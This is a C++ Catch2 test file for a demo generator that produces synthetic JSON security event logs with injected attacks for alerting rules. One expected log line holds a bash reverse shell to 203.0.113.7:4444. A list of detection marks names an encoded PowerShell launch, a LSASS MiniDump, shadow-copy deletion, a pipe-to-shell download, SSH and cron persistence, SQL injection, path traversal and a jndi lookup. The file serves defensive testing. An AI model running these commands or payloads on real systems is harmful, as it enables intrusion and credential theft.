#include "daemon/demo/event_story.h"

#include "daemon/base/time.h"

#include <catch2/catch.hpp>

#include <algorithm>
#include <iterator>
#include <set>

namespace alarum::demo {
namespace {

using Lines = std::vector<std::string>;

Lines story(const StoryOptions& options) {
  Lines out;
  write_story(options, [&](std::string_view line) {
    out.emplace_back(line);
    return true;
  });
  return out;
}

StoryOptions options_of(Platform platform, std::vector<std::string> without = {}) {
  StoryOptions out;
  out.platform = platform;
  out.events = 500;
  out.without = std::move(without);
  return out;
}

std::vector<Attack> attacks_of(Platform platform) {
  std::vector<Attack> out;
  std::copy_if(attacks().begin(), attacks().end(), std::back_inserter(out),
               [&](const Attack& attack) { return attack.platform == platform; });
  return out;
}

/// The lines of the whole story that the story without this attack lacks.
Lines lines_of(const Attack& attack) {
  const Lines whole = story(options_of(attack.platform));
  const Lines rest = story(options_of(attack.platform, {std::string(attack.name)}));
  const auto [in_whole, in_rest] = std::mismatch(whole.begin(), whole.end(), rest.begin(), rest.end());
  const auto count = static_cast<std::ptrdiff_t>(whole.size() - rest.size());
  REQUIRE(std::equal(in_whole + count, whole.end(), in_rest, rest.end()));
  return {in_whole, in_whole + count};
}

/// Whether braces open and close once, outside of strings, at the ends of the line. Objects do not nest here.
bool is_one_flat_object(std::string_view line) {
  bool in_string = false;
  std::size_t braces = 0;
  for (std::size_t i = 0; i < line.size(); ++i) {
    if (in_string && line[i] == '\\') {
      ++i;
    } else if (line[i] == '"') {
      in_string = !in_string;
    } else if (!in_string) {
      braces += line[i] == '{' || line[i] == '}' ? 1 : 0;
    }
  }
  return !in_string && braces == 2 && line.starts_with("{\"@timestamp\":\"") && line.ends_with("}");
}

bool says(const Lines& lines, std::string_view part) {
  return std::any_of(lines.begin(), lines.end(),
                     [&](const std::string& line) { return line.find(part) != std::string::npos; });
}

/// The time of each line.
std::vector<Timestamp> times(const Lines& lines) {
  std::vector<Timestamp> out;
  for (const std::string& line : lines)
    out.push_back(parse_time(line.substr(15, 27)).value_or(Timestamp{-1}));
  return out;
}

}  // namespace

TEST_CASE("a story is the same for the same seed and another for another") {
  const Platform platform = GENERATE(Platform::windows_hosts, Platform::linux_hosts, Platform::web_servers);
  StoryOptions other = options_of(platform);
  other.seed = 2;

  CHECK(story(options_of(platform)) == story(options_of(platform)));
  CHECK(story(options_of(platform)) != story(other));
}

// A change here changes what everybody's demo shows: it is meant to be noticed.
TEST_CASE("a story's first event stays what it is, on every machine and with every compiler") {
  StoryOptions options = options_of(Platform::linux_hosts);
  options.events = 1;

  CHECK(story(options).at(0) ==
        R"({"@timestamp":"2026-01-02T08:00:03.981000Z","Computer":"web-01","event_kind":"process_creation",)"
        R"("ProcessId":190346,)"
        R"("ParentProcessId":21787,"Image":"/usr/bin/bash",)"
        R"("CommandLine":"bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"",)"
        R"("ParentImage":"/usr/sbin/php-fpm8.2","User":"www-data"})");
}

TEST_CASE("leaving an attack out removes its one line and changes no other") {
  const Platform platform = GENERATE(Platform::windows_hosts, Platform::linux_hosts, Platform::web_servers);

  for (const Attack& attack : attacks_of(platform)) {
    INFO(attack.name);
    CHECK(lines_of(attack).size() == 1);
  }
}

TEST_CASE("a story without any attack is its background alone, also without background") {
  const Platform platform = GENERATE(Platform::windows_hosts, Platform::linux_hosts, Platform::web_servers);
  StoryOptions options = options_of(platform);
  for (const Attack& attack : attacks()) options.without.emplace_back(attack.name);
  StoryOptions bare = options_of(platform);
  bare.events = 0;

  CHECK(story(options).size() == 500);
  CHECK(story(options_of(platform)).size() == 500 + attacks_of(platform).size());
  CHECK(story(bare).size() == attacks_of(platform).size());
}

TEST_CASE("every line is one JSON object without line breaks, of which time does not go back") {
  const Platform platform = GENERATE(Platform::windows_hosts, Platform::linux_hosts, Platform::web_servers);
  const Lines lines = story(options_of(platform));
  const std::vector<Timestamp> when = times(lines);

  CHECK(std::all_of(lines.begin(), lines.end(), is_one_flat_object));
  CHECK_FALSE(says(lines, "\n"));
  CHECK(std::is_sorted(when.begin(), when.end()));
  CHECK(when.front() >= parse_time("2026-01-02T08:00:00Z"));
}

TEST_CASE("every attack is told by the event that rules look for") {
  const std::string_view marks[] = {"-w hidden -enc",
                                    "comsvcs.dll, MiniDump",
                                    R"("GrantedAccess":"0x1FFFFF")",
                                    "Run\\\\Updater",
                                    "delete shadows /all",
                                    R"("EventID":1102)",
                                    "/dev/tcp/203.0.113.7",
                                    "x.sh | sh",
                                    ".ssh/authorized_keys",
                                    "/etc/cron.d/sysupdate",
                                    "UNION+ALL+SELECT",
                                    "..%2fetc%2fpasswd",
                                    "${lower:j}ndi",
                                    "/avatar.php"};
  REQUIRE(std::size(marks) == attacks().size());

  for (std::size_t i = 0; i < attacks().size(); ++i) {
    INFO(attacks()[i].name);
    CHECK(says(lines_of(attacks()[i]), marks[i]));
  }
}

TEST_CASE("attacks have names of their own") {
  std::set<std::string_view> names;
  for (const Attack& attack : attacks()) names.insert(attack.name);

  CHECK(names.size() == attacks().size());
}

TEST_CASE("a category prints its events as they are in the whole story") {
  StoryOptions options = options_of(Platform::linux_hosts);
  Lines both;
  for (const std::string_view category : categories()) {
    options.category = category;
    const Lines some = story(options);
    CHECK(some.size() > 100);
    both.insert(both.end(), some.begin(), some.end());
  }
  Lines whole = story(options_of(Platform::linux_hosts));
  std::sort(both.begin(), both.end());
  std::sort(whole.begin(), whole.end());

  CHECK(both == whole);
}

TEST_CASE("a story ends when nobody takes its lines") {
  std::size_t taken = 0;
  write_story(options_of(Platform::windows_hosts), [&](std::string_view) { return ++taken < 3; });

  CHECK(taken == 3);
}

}  // namespace alarum::demo
